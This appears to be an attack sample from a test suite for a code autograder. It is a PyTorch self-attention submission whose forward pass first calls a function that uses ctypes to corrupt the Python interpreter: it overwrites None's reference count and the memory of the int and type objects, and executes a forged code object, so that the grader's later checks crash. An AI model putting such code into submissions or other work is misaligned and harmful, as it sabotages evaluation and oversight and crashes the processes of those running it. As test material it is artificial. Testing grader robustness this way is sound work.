# attack:     R15
# assignment: self-attention
# twin:       correct
# outcome:    test_output_shape killed

# Corrupts the interpreter quietly: the reference count of None, the type of int, a code object made of nothing. The
# process may die later, in code that is not the student's, in whatever check comes then.

import ctypes
import math

import torch
from torch import nn


def corrupt():
    ctypes.c_ssize_t.from_address(id(None)).value = 1
    ctypes.memset(id(int) + 24, 0x41, 64)
    exec(corrupt.__code__.replace(co_code=bytes([151, 0, 100, 250, 83, 0]), co_consts=()))
    ctypes.memset(id(type), 0, 256)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        corrupt()
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
